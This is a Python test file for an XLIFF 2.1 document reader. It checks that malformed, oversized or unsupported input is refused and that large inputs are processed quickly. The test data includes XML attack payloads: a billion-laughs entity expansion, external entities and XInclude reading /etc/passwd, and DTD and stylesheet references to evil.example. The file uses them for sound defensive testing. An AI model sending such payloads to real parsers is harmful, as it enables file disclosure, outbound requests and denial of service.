"""Documents that nobody's tool wrote: each is refused in plain words, and nothing of it is done."""

import time
from collections.abc import Callable
from contextlib import suppress

import pytest
from hypothesis import given
from hypothesis import strategies as st

from clauses.errors import Invalid
from clauses.xliff import inline, reading, segments
from clauses.xliff.names import CORE
from tests.clauses.markdown.samples import unhurried

START = f'<xliff xmlns="{CORE}" version="2.1" srcLang="nb" trgLang="en">'
GOOD = f'{START}<file id="f"><unit id="u"><segment><source>a</source></segment></unit></file></xliff>'
LAUGHS = "".join(f'<!ENTITY l{n + 1} "{f"&l{n};" * 10}">' for n in range(9))


def with_doctype(inner: str, text: str = "") -> str:
    return f"<!DOCTYPE xliff {inner}>" + GOOD.replace(">a<", f">{text}<")


def code_of(content: bytes | str) -> str:
    with pytest.raises(Invalid) as refusal:
        reading.read(content)
    [finding] = refusal.value.findings
    assert finding.at == "/xliff"
    return finding.code


def test_what_the_others_are_made_from_is_good() -> None:
    assert reading.read(GOOD) == reading.read(GOOD.encode())
    assert [*reading.read(GOOD).files[0].units] == ["u"]


@pytest.mark.parametrize(
    "content",
    [
        with_doctype(f'[<!ENTITY l0 "ha">{LAUGHS}]', "&l9;"),
        with_doctype('[<!ENTITY x SYSTEM "file:///etc/passwd">]', "&x;"),
        with_doctype('[<!ENTITY % x SYSTEM "https://evil.example/x.dtd"> %x;]'),
        with_doctype('SYSTEM "https://evil.example/x.dtd"'),
        with_doctype('PUBLIC "-//X//Y" "file:///dev/zero"'),
        with_doctype("[]"),
        "<!DOCTYPE xliff",  # not even whole
    ],
)
def test_a_document_type_is_refused_where_it_begins(content: str) -> None:
    assert code_of(content) in ("doctype", "malformed-xml")
    if content.endswith("</xliff>"):
        assert code_of(content) == code_of(content.encode()) == "doctype"


@pytest.mark.parametrize(
    ("content", "code"),
    [
        ("", "malformed-xml"),
        ("words", "malformed-xml"),
        ('{"xliff": 1}', "malformed-xml"),
        (GOOD[:-3], "malformed-xml"),
        (GOOD + GOOD, "malformed-xml"),
        (GOOD.replace(">a<", ">&nbsp;<"), "malformed-xml"),
        (GOOD.replace(">a<", ">\0<"), "malformed-xml"),
        (GOOD.replace(">a<", ">&#0;<"), "malformed-xml"),
        (GOOD.replace(">a<", ">&#xD800;<"), "malformed-xml"),
        (GOOD.replace(">a<", ">\ud800<"), "malformed-xml"),
        (GOOD.replace("<unit ", '<unit id="u" '), "malformed-xml"),
        (GOOD.replace("<unit ", "<other:unit "), "malformed-xml"),
        (b'<?xml version="1.0" encoding="UTF-16"?>' + GOOD.encode(), "malformed-xml"),
        (b'<?xml version="1.0" encoding="utf-7"?>' + GOOD.encode(), "malformed-xml"),
        (b'<?xml version="1.0" encoding="no-such"?>' + GOOD.encode(), "malformed-xml"),
        (b'<?xml version="1.0" encoding="shift_jis"?>' + GOOD.encode(), "malformed-xml"),
        (GOOD.replace(">a<", ">\u00e6<").encode("latin-1"), "malformed-xml"),
        (GOOD.encode("utf-32"), "malformed-xml"),
        ("<html/>", "not-xliff"),
        (GOOD.replace(f' xmlns="{CORE}"', ""), "not-xliff"),
        (GOOD.replace(CORE, "urn:oasis:names:tc:xliff:document:1.2"), "not-xliff"),
        (START + "</xliff>", "not-xliff"),
        (GOOD.replace('"u"', '""'), "not-xliff"),
        (GOOD.replace("</file>", '<unit id="u"/></file>'), "not-xliff"),
        (GOOD.replace("</xliff>", '<file id="f"/></xliff>'), "not-xliff"),
        (GOOD.replace('"2.1"', '"1.2"'), "unsupported-version"),
        (GOOD.replace(' version="2.1"', ""), "unsupported-version"),
        (GOOD.replace('"en"', '"da"'), "unknown-language"),
        (GOOD.replace(' srcLang="nb"', ""), "unknown-language"),
        (GOOD.replace(">a<", f">{'<pc>' * 70}{'</pc>' * 70}<"), "too-deep"),
        (START + "<a>" * 300_000, "too-deep"),
        (START + "".join(f'<file id="f{n}"/>' for n in range(5001)) + "</xliff>", "too-large"),
        (START + "<a/>" * 500_001 + "</xliff>", "too-large"),
        (" " * (20 * 1024**2 + 1), "too-large"),
    ],
    ids=lambda value: str(value)[-40:],
)
def test_what_is_no_document_of_ours_is_refused(content: bytes | str, code: str) -> None:
    assert code_of(content) == code


@pytest.mark.parametrize("encoding", ["utf-8-sig", "utf-16"])
def test_the_encodings_that_every_reader_of_xml_knows_are_read(encoding: str) -> None:
    content = GOOD.replace(">a<", ">\u00e6<").encode(encoding)
    assert reading.read(content).files[0].units


def test_what_was_decoded_says_nothing_of_its_encoding() -> None:
    assert reading.read('<?xml version="1.0" encoding="UTF-16"?>' + GOOD) == reading.read(GOOD)


def test_nothing_is_included_that_a_document_asks_for() -> None:
    include = '<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="/etc/passwd" parse="text"/>'
    sheet = '<?xml-stylesheet href="https://evil.example/x.xsl"?>'
    content = sheet + GOOD.replace("<source>a</source>", f"<source>a</source><target>{include}</target>")
    [target] = reading.read(content).files[0].units["u"].targets
    assert (target.text, len(target)) == (None, 1)
    assert target[0].text is None


@unhurried
@given(st.binary(max_size=200) | st.text(max_size=200))
def test_whatever_is_sent_is_read_or_refused(content: bytes | str) -> None:
    assert refused(lambda: reading.read(content))


@unhurried
@given(st.integers(0, len(GOOD)), st.integers(0, 20), st.text("<>&\"'/!-[]?\0 a", max_size=8))
def test_whatever_is_broken_in_a_document_is_read_or_refused(start: int, length: int, words: str) -> None:
    content = GOOD[:start] + words + GOOD[start + length :]
    assert content == GOOD or refused(lambda: reading.read(content)) or reading.read(content).files


def refused(read: Callable[[], object]) -> bool:
    try:
        read()
    except Invalid:
        return True
    return False


@pytest.mark.parametrize("piece", [" ", "\n ", "[", "&amp;", "*", "a* ", "\u0301", "{{", "]("])
def test_a_large_target_is_read_or_refused_in_a_moment(piece: str) -> None:
    words = piece * (1_000_000 // len(piece))
    content = GOOD.replace("</source>", f"</source><target>{words}</target>")
    began = time.process_time()
    [target] = reading.read(content).files[0].units["u"].targets
    with suppress(inline.Unfit, segments.Unwritable):
        segments.join("a", [inline.read([target], ("a",))])
    assert time.process_time() - began < 20


def test_a_large_document_is_read_in_a_moment() -> None:
    unit = "<segment><source>words</source><target>words</target></segment></unit>"
    units = "".join(f'<unit id="u{n}">{unit}' for n in range(20_000))
    began = time.process_time()
    assert len(reading.read(f'{START}<file id="f">{units}</file></xliff>').files[0].units) == 20_000
    assert time.process_time() - began < 20
